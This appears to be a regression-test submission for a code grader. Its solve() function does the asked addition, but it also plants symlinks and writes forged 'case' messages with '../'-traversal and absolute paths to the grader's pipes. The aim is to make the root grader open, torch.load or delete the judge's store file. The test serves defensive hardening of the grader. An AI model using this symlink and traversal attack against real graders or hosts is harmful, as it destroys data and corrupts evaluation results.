"""Makes the grader open, parse or delete a host file through the report channel (issue 24).

The attack that once worked: replace the job's message folder with a symlink to the folder of
the judge's store, then send a 'case' message naming the store's file as the tensor file: the
grader (root) opened it through the link, ran torch.load on it, and unlinked it. The store was
gone. Here every writable place the grader might look gets links named like message folders
and like the target, then the channel gets messages naming the target as a file, as a path
with '..', and as an output name. The test puts the target's path in place of @TARGET@.
"""
import json
import os

TARGET = "@TARGET@"


def plant(target):
    folder, name = os.path.split(target)
    places = {os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", os.environ.get("HOME", "/tmp")}
    for base in sorted(places):
        for link, to in (("msgs", folder), ("messages", folder), (name, target)):
            try:
                os.symlink(to, os.path.join(base, link))
                print(f"planted {base}/{link} -> {to}")
            except OSError as exc:
                print(f"cannot plant {base}/{link}: {exc.strerror}")


def channel_fds():
    out = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                out.append(int(fd))
        except OSError:
            continue
    return out


def solve(A, B, C, N):
    target = TARGET if not TARGET.startswith("@") else "/nonexistent/judge.sqlite3"
    plant(target)
    payload = {"index": 0, "name": "test 1", "modified_inputs": [], "guard_damage": []}
    names = [os.path.basename(target), "../" * 12 + target.lstrip("/"), target]
    lines = [json.dumps({"kind": "case", "payload": payload, "tensors": name}) for name in names]
    lines += [json.dumps({"kind": "case", "payload": payload, "tensors": [name]}) for name in names]
    data = ("\n".join(lines) + "\n").encode()
    for fd in channel_fds():
        try:
            os.write(fd, data)
        except OSError:
            pass
    C.copy_(A + B)
